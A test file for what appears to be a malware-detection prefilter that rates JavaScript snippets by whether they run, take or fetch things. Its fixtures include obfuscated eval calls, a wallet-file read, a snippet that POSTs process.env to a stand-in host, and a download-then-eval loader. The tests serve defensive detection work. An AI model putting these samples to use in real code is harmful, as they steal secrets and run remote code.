import { describe, expect, it } from 'vitest'
import { interestOf } from './prefilter.ts'
import { actsOf } from './testing.ts'

describe('for what code is parsed', () => {
  it.each([
    ['eval(text)', 'runs'],
    ['const run = eval\nrun(text)', 'runs'],
    ['(0, eval)(text)', 'runs'],
    ['new Function("a", text)', 'runs'],
    ['Reflect.construct(Function, [text])', 'runs'],
    ['const F = Function;', 'runs'],
    ['(function () {}).constructor(text)()', 'runs'],
    ['x["constructor"]["constructor"](text)', 'runs'],
    ["require('child_' + 'process')", 'runs'],
    ["globalThis['ev' + 'al'](text)", 'runs'],
    ['g[a + b](text)', 'runs'],
    ['process.env', 'takes'],
    ['Buffer.from(text, encoding)', 'takes'],
    ['fetch(address)', 'asks'],
    ['require(name)', 'asks'],
    ['if (x instanceof Function) y()', 'nothing'],
    ['const root = Function("return this")()', 'nothing'],
    ['if (typeof f === "function" && f.constructor === Function) y()', 'nothing'],
    ['new this.constructor(options)', 'nothing'],
    ['list[i + 1] = "eval"', 'nothing'],
  ])('%s', (code, interest) => {
    expect(interestOf(code)).toBe(interest)
  })

  it('of a large file only what runs and also takes something from elsewhere', () => {
    const filler = 'x();'.repeat(20_000)
    expect(interestOf(`${filler}eval(text)`)).toBe('nothing')
    expect(interestOf(`${filler}fetch(address)`)).toBe('nothing')
    expect(interestOf(`${filler}eval(text);fetch(address)`)).toBe('runs')
    expect(interestOf(`${filler}eval(Buffer.from(text, 'bas' + 'e64'))`)).toBe('runs')
  })
})

it('reads texts that are cut in pieces as the one that they make', () => {
  expect(actsOf('read-secret', "open('wal' + 'let.dat')").length).toBe(1)
  const sent =
    "const all = { ...process['e' + 'nv'] }\nfetch('https://a.invalid', { method: 'POST', body: all })"
  expect(actsOf('read-environment', sent).length).toBe(1)
})

it('knows what a function that calls itself asks for', () => {
  const code = `const https = require('https')
function get(address) {
  return new Promise((done) => https.get(address, (answer) => {
    if (answer.headers.location) return get(answer.headers.location).then(done)
    done(answer)
  }))
}
async function main() {
  try { eval(String(await get('https://files.invalid/a'))) } catch {}
}
main()`
  expect(actsOf('download', code).flatMap(({ values }) => values)).toContain('https://files.invalid/a')
})

it('what is added behind a packed library is judged by itself', () => {
  const packed = `/*! library */\n${'x=1;'.repeat(40_000)}\n`
  expect(interestOf(packed)).toBe('nothing')
  expect(interestOf(`${packed}//# sourceMappingURL=a.js.map\n`)).toBe('nothing')
  expect(interestOf(`${packed};window['ev' + 'al'](text)\n`)).toBe('runs')
  expect(interestOf(`${packed};navigator.clipboard.readText()\n`)).toBe('takes')
})
